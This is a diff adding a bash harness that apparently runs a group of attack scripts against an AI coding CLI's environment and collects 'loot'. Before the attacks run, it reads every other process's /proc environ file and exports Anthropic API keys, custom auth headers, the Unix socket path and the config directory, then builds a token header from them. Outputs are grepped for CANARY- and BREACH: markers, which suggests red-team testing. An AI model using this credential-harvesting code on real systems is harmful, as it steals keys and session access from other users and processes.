@@ -1,0 +1,21 @@
+# Runs every attack of a group, each on its own, and shows what was got hold of.
+cd "${0%/*}/.." || exit 1
+. ./attack/env.sh
+has() { [ -n "${!1:-}" ]; }
+# What the CLI keeps from its commands is in the environment of another process.
+for p in /proc/[0-9]*/environ; do
+	while IFS= read -r -d '' entry; do
+		case $entry in ANTHROPIC_UNIX_SOCKET=* | ANTHROPIC_CUSTOM_HEADERS=* | ANTHROPIC_API_KEY=* | CLAUDE_CONFIG_DIR=*)
+			[ "${p#/proc/}" = "$BOT/environ" ] || has "${entry%%=*}" || export "$entry"
+			;;
+		esac
+	done <"$p"
+done 2>/dev/null
+export TOKENHEADER="$ANTHROPIC_CUSTOM_HEADERS"$'\r\n'
+loot=$PWD/attack/loot/$1
+mkdir -p "$loot" "$BEATS" attack/fired
+for f in "$PWD/attack/$1"/*; do
+	timeout -k 1 10 bash "$f" >"$loot/${f##*/}" 2>&1 </dev/null
+done
+grep -ha -e CANARY- -e BREACH: "$loot"/* | head -c 5000
+exit 0
